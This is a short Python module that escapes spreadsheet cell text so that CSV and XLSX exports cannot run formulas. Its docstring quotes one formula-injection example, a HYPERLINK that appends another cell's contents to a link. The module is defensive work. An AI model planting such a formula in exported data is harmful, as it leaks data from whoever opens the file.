"""Text for a spreadsheet cell, made safe to open: the one rule for every CSV and XLSX denkraam writes.

Excel and LibreOffice read a cell that starts with = + - or @ as a formula, and also one that starts with a tab or
a carriage return before such a sign. A comment like `=HYPERLINK("http://...?d="&A1; "Klik hier")`, typed by a
citizen or a participant, would then run on the computer of whoever opens the export. Such text gets a leading
apostrophe: the spreadsheet shows the text as typed and runs nothing.
"""

from __future__ import annotations

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def formula_safe(text: str) -> str:
    """The text as a spreadsheet cell may hold it: text that would be read as a formula gets a leading apostrophe."""
    return "'" + text if text.startswith(FORMULA_STARTS) else text
